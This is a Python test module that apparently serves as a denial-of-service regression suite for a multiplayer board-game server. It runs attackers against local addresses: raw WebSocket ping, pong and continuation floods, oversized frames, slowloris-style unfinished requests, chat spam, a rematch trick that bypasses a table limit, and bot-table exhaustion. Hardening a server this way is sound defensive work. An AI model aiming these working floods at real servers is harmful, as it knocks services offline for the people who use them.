"""The attackers of `make attack`, each of which once stopped a server or kept its people waiting.

`python -m tests.proof.attackers NAME ADDRESS SECONDS` attacks for that long and prints how often it tried. An attacker
that is cut off comes back at once.
"""

import asyncio
import base64
import json
import os
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any

import httpx
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import WebSocketException

FROM = 66
"""The first attacker comes from 127.0.0.66, each has its own address, and everybody else comes from 127.0.0.1."""
PING, PONG, TEXT, BEGUN, CONTINUED = 0x89, 0x8A, 0x81, 0x01, 0x00
UNFINISHED, BOT_TABLES, AHEAD = 1100, 150, 250
LEVEL = "master"
ENDED = (OSError, TimeoutError, EOFError, WebSocketException, httpx.HTTPError)


def frame(kind: int, data: bytes = b"") -> bytes:
    """A masked client frame; a mask of zero is as good as any."""
    return bytes([kind, 0x80 | len(data), 0, 0, 0, 0]) + data


class Attacker:
    """One attacker against one server."""

    def __init__(self, address: str, seconds: float, number: int = 0) -> None:
        self.address = address
        self.local = f"127.0.0.{FROM + number}"
        self.host, _, port = address.removeprefix("http://").partition(":")
        self.port = int(port)
        self.until = time.monotonic() + seconds
        self.tried = 0

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    async def again_and_again(self, attack: Callable[[], Awaitable[None]]) -> None:
        while self.goes_on:
            self.tried += 1
            with suppress(*ENDED):
                async with asyncio.timeout_at(asyncio.get_running_loop().time() + self.until - time.monotonic()):
                    await attack()
            await asyncio.sleep(0.01)

    # --- without a name

    async def connection(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port, local_addr=(self.local, 0))

    async def socket(self) -> asyncio.StreamWriter:
        """Open a WebSocket to which we write raw bytes and from which we read nothing."""
        reader, writer = await self.connection()
        key = base64.b64encode(os.urandom(16)).decode()
        lines = ["GET /api/socket HTTP/1.1", f"Host: {self.host}", "Upgrade: websocket", "Connection: Upgrade"]
        lines += [f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13", "", ""]
        writer.write("\r\n".join(lines).encode())
        await reader.readuntil(b"\r\n\r\n")
        return writer

    async def flood(self, first: bytes, data: bytes) -> None:
        writer = await self.socket()
        try:
            writer.write(first)
            while True:
                writer.write(data)
                await writer.drain()
        finally:
            writer.transport.abort()

    async def unfinished(self) -> None:
        """Open as many requests as possible and never finish them."""
        held = []
        try:
            for _ in range(UNFINISHED):
                _, writer = await self.connection()
                writer.write(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ")
                held.append(writer)
            await asyncio.sleep(5)
        finally:
            for writer in held:
                writer.transport.abort()

    # --- with a name

    def client(self) -> httpx.AsyncClient:
        transport = httpx.AsyncHTTPTransport(local_address=self.local)
        return httpx.AsyncClient(base_url=self.address, transport=transport, timeout=20)

    async def guest(self, client: httpx.AsyncClient) -> dict[str, str]:
        token = (await client.post("/api/guests", json={"name": "Mallory"})).json()["token"]
        return {"authorization": f"Bearer {token}"}

    async def table(self, client: httpx.AsyncClient, me: dict[str, str], **wish: Any) -> str:
        said = (await client.post("/api/tables", headers=me, json=wish)).json()
        if "id" not in said:
            raise TimeoutError(str(said))
        return str(said["id"])

    def screen(self) -> connect:
        address = self.address.replace("http", "ws", 1) + "/api/socket"
        return connect(address, local_addr=(self.local, 0), ping_interval=None)

    async def hello(self, socket: ClientConnection, me: dict[str, str], table: str) -> None:
        await socket.send(json.dumps({"t": "hello", "token": me["authorization"].removeprefix("Bearer ")}))
        await socket.send(json.dumps({"t": "join", "table": table}))

    async def decks(self) -> None:
        async with self.client() as client:
            me = await self.guest(client)
            table = await self.table(client, me, title="dragonduel", seats=2)
            for length in (3990, 60_000) * 500:
                self.tried += 1
                await client.patch(
                    f"/api/tables/{table}/seats/0", headers=me, json={"options": {"deck": "1" + " " * length}}
                )

    async def ahead(self) -> None:
        """Send frames ahead and disconnect."""
        async with self.client() as client:
            me = await self.guest(client)
            table = await self.table(
                client, me, title="dualis", seats=3, bots={"1": "random", "2": "random"}, start=True
            )
        while self.goes_on:
            async with self.screen() as socket:
                await self.hello(socket, me, table)
                for _ in range(AHEAD):
                    await socket.send(json.dumps({"t": "why", "table": table, "word": "fly"}))
                socket.transport.abort()
            self.tried += 1

    async def talk(self) -> None:
        async with self.client() as client:
            me = await self.guest(client)
            table = await self.table(client, me, title="dualis", seats=4)
        await asyncio.gather(*(self._talk(me, table) for _ in range(24)))

    async def _talk(self, me: dict[str, str], table: str) -> None:
        async with self.screen() as socket:
            await self.hello(socket, me, table)
            while self.goes_on:
                await socket.send(json.dumps({"t": "say", "table": table, "text": "me! " * 40}))
                await socket.recv()
                self.tried += 1

    async def rematches(self) -> None:
        """Resign, ask for a rematch, resign: this makes new tables that bypass the limit."""
        async with self.client() as client, self.screen() as socket:
            me = await self.guest(client)
            table = await self.table(client, me, title="dragonduel", seats=2, bots={"1": "random"}, start=True)
            await self.hello(socket, me, table)
            while self.goes_on:
                await socket.send(json.dumps({"t": "resign", "table": table}))
                answer = (await client.post(f"/api/tables/{table}/rematch", headers=me, json={})).json()
                self.tried += 1
                if "id" in answer:
                    table = answer["id"]
                    await socket.send(json.dumps({"t": "join", "table": table}))

    async def bots(self) -> None:
        """Make as many tables of bots as one guest may have."""
        async with self.client() as client:
            me = await self.guest(client)
            wish = {"title": "flamecraft", "seats": 2, "sit": None, "bots": {"0": LEVEL, "1": LEVEL}, "start": True}
            for number in range(BOT_TABLES):
                answer = await client.post("/api/tables", headers=me, json=wish)
                if number == 0 and answer.status_code != httpx.codes.CREATED:
                    raise RuntimeError(answer.text)
                self.tried += answer.status_code == httpx.codes.CREATED
            await asyncio.sleep(max(0.0, self.until - time.monotonic()))


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    "pings": lambda attacker: attacker.flood(b"", frame(PING) * 5000),
    "pongs": lambda attacker: attacker.flood(b"", frame(PONG) * 5000),
    "continuations": lambda attacker: attacker.flood(frame(BEGUN), frame(CONTINUED) * 5000),
    "unread answers": lambda attacker: attacker.flood(b"", frame(PING, b"x" * 120) * 500),
    "large messages": lambda attacker: attacker.flood(
        b"", bytes([TEXT, 0xFF]) + (500_000).to_bytes(8, "big") + bytes(4) + b" " * 500_000
    ),
    "deck lists": Attacker.decks,
    "unfinished requests": Attacker.unfinished,
    "frames ahead": Attacker.ahead,
    "talk": Attacker.talk,
    "rematches": Attacker.rematches,
    "bot tables": Attacker.bots,
}


async def attack(name: str, address: str, seconds: float) -> int:
    """Attack for that many seconds; return the number of tries."""
    attacker = Attacker(address, seconds, list(ATTACKS).index(name))
    await attacker.again_and_again(lambda: ATTACKS[name](attacker))
    return attacker.tried


if __name__ == "__main__":
    print(asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]))))
